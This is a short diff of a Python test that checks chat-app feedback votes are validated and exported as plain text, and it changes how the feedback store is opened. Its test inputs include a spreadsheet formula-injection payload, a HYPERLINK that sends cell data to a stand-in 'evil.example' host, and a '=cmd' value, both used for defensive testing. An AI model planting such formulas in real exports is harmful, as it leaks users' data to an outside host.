@@ -230,7 +230,7 @@ def test_votes_are_validated_and_feedback_exports_as_text(target):
     session = uuid.uuid4().hex[:11]
     question = '=HYPERLINK("http://evil.example/?leak="&A1,"Who co-finances INNAXE?")'
     assert "co-finance" in queue_call(http, chat_fn, [question, None], session_hash=session)
-    store = FeedbackStore(target.data_dir / "feedback.sqlite")
+    store = FeedbackStore.open(f"sqlite:///{target.data_dir / 'records.sqlite'}")
     before = len(store.items())
     like = {"index": 1, "value": "", "liked": "=cmd"}
     queue_call(http, like_fn, [None], session_hash=session, event_data=like)
